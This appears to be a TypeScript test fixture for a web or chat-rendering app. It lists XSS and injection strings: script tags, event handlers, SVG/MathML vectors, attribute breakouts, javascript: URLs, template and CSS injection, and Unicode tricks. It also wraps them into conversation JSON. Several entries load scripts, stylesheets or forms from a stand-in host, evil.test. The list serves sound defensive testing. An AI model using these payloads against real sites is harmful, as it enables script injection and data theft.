/**
 * Texts that would run, load or break something if a page treated them as more than text. Each that runs sets `window.__pwned` or
 * opens a dialog; each that loads asks a host that is not this server.
 */
const elsewhere = 'http://evil.test';

const tags = [
  '<script>window.__pwned = 1</script>',
  '<script src="http://evil.test/x.js"></script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT >',
  '<scr<script>ipt>window.__pwned = 1</scr</script>ipt>',
  '</script><script>window.__pwned = 1</script>',
  '</title><script>alert(1)</script>',
  '</textarea><img src=x onerror=alert(1)>',
  '</pre></code></td></tr></table><script>alert(1)</script>',
  '<iframe src="javascript:parent.__pwned=1"></iframe>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  `<object data="${elsewhere}/x.swf"></object>`,
  '<embed src="javascript:alert(1)">',
  `<base href="${elsewhere}/">`,
  `<link rel=stylesheet href="${elsewhere}/x.css">`,
  `<meta http-equiv="refresh" content="0;url=${elsewhere}/">`,
  `<form action="${elsewhere}/"><button autofocus>go</button></form>`,
  '<template><script>window.__pwned = 1</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
];

const handlers = [
  '<img src=x onerror=alert(1)>',
  `<img src="${elsewhere}/pixel.png">`,
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror="window.__pwned=1"></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href="javascript:alert(1)">click me</a>',
  '<p style="animation-name:x" onanimationstart="alert(1)">',
  '<x onpointerover=alert(1) style="position:fixed;inset:0">cover</x>',
];

const svg = [
  '<svg onload=alert(1)>',
  '<svg><script>window.__pwned=1</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
];

const breakouts = [
  '" onmouseover="alert(1)" x="',
  "' onmouseover='alert(1)' x='",
  '"><script>window.__pwned=1</script>',
  '`-alert(1)-`',
  "';window.__pwned=1;//",
  '\\";window.__pwned=1;//',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
];

const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:window.__pwned=1//',
  'data:text/html,<script>parent.__pwned=1</script>',
  'vbscript:msgbox(1)',
  '//evil.test/path',
  '#key=tt_stolen',
];

const templates = [
  '{{constructor.constructor("window.__pwned=1")()}}',
  '${window.__pwned=1}',
  '<%= window.__pwned=1 %>',
  '#{alert(1)}',
  '[[alert(1)]]',
  '{"type":"img","props":{"src":"x","onerror":"alert(1)"},"__html":"<img src=x onerror=alert(1)>"}',
];

const styles = [
  `<style>*{background:url(${elsewhere}/x.png)}</style>`,
  `x;background:url(${elsewhere}/x.png)`,
  '}*{display:none}',
  `@import url(${elsewhere}/x.css);`,
  '100%;position:fixed;inset:0;z-index:9999',
];

const unicode = [
  '\u202Etxt.exe\u202C \u2066hidden\u2069',
  '\u{E0001}\u{E0073}\u{E0063}\u200B\u200D\uFEFF<script>alert(1)</script>',
  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
  '\u0130\u212A <img src=x onerror=alert(1)>',
  '\uD800 half a character <script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;img src=x onerror=alert(1)&#x3E;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  'Z\u0351\u036B\u0343A\u0335\u0321L\u034F\u0310G\u0321O\u0321'.repeat(6),
];

const names = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'unlabelled',
  '[object Object]',
  'NaN',
];

export const hostileTexts: readonly string[] = [
  ...tags,
  ...handlers,
  ...svg,
  ...breakouts,
  ...addresses,
  ...templates,
  ...styles,
  ...unicode,
  ...names,
];

/** The same inside payloads: as the parts of a conversation, and as keys and values of JSON. */
export function hostilePayloads(): { input: string; output: string } {
  return {
    input: JSON.stringify(
      hostileTexts.map((text) => ({
        role: text,
        content: [text, { type: text, text }, { type: 'image_url', image_url: text }],
        [`${text} `]: text,
      })),
    ),
    output: JSON.stringify(hostileTexts.map((text) => ({ [text]: [text, { [text]: text }] }))),
  };
}
